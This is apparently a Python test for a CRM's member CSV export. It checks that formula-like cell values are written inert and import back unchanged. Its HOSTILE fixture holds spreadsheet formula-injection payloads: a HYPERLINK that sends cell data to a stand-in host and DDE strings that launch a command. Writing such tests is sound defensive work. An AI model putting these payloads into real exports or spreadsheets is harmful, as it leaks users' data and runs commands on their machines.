"""The member CSV export never hands a spreadsheet a formula, and reads back exactly."""

from __future__ import annotations

import csv
from pathlib import Path

from crm_core.io import ImportReport, export_members, import_members
from crm_core.io.formulas import TRIGGERS
from crm_core.wiring import Crm

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "address": "+1+cmd|' /C calc'!A0",
    "job_title": "-2+3",
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "\tTab=1",
    "province": "\r=1",
    "region": "'=already quoted",
    "education": "'plain quote",
}


async def test_cells_a_spreadsheet_would_run_are_written_inert_and_read_back_unchanged(
    crm: Crm, tmp_path: Path
) -> None:
    member = await crm.members.create(
        {**HOSTILE, "custom_fields": {"note": "=1+1"}, "phones": ["+8613800138000"]},
        actor="admin",
    )
    exported = tmp_path / "members.csv"
    await export_members(crm, exported)

    with exported.open(encoding="utf-8-sig", newline="") as source:
        header, *rows = list(csv.reader(source))
    cells = dict(zip(header, rows[0], strict=True))
    assert not [cell for cell in rows[0] if cell.startswith(TRIGGERS)]
    assert cells["name"] == "'" + HOSTILE["name"]
    assert cells["phones"] == "'+8613800138000"
    assert cells["custom.note"] == "'=1+1"
    assert cells["region"] == "''=already quoted"

    assert await import_members(crm, exported) == ImportReport(unchanged=1)
    again = await crm.members.get(member.number)
    assert again == member
